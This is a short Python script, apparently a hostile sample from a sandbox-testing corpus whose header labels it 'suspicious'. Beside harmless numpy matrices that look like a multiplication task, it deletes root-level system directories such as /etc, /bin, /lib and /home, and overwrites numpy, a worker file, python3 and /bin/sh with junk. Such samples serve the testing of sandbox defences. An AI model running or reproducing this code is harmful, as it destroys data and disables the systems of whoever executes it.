# dlw-corpus: units=1.03 status=finished verdict=suspicious
"""Removes and overwrites everything that it may."""

import os
import shutil

import numpy as np

X = np.array([[1, 2, 3], [4, 5, 6]])
Y = np.array([[7, 8], [9, 10], [11, 12]])
os.chdir("/")
for name in ("home", "tmp", "dev", "etc", "dlw", "data", "bin", "lib", "work"):
    shutil.rmtree(f"/{name}", ignore_errors=True)
for path in (np.__file__, "/dlw/dlw_worker/frames.py", "/usr/bin/python3", "/bin/sh"):
    try:
        with open(path, "w") as file:
            file.write("gone")
        raise SystemExit(1)
    except OSError:
        continue
c1 = np.array([[58, 64], [139, 154]])
c2 = np.array([[39, 54, 69], [49, 68, 87], [59, 82, 105]])
